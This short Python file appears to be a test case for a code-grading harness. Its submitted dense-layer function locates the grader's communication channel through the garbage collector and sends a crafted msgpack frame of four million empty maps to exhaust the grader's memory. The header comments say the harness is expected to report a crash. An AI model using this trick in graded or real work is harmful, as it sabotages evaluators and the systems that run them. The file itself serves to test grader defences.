# tries: an answer of millions of empty maps, to fill the grader's memory
# base: numpy
# expect: my_dense crashed 0
import gc
import struct


def my_dense(a_in, W, b, g):
    channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
    count = 4_000_000
    tree = b"\xdd" + struct.pack(">I", count) + b"\x80" * count
    channel.sock.sendall(struct.pack("<4sII", b"GRW1", len(tree), 0) + tree)
    return g(W @ a_in + b)
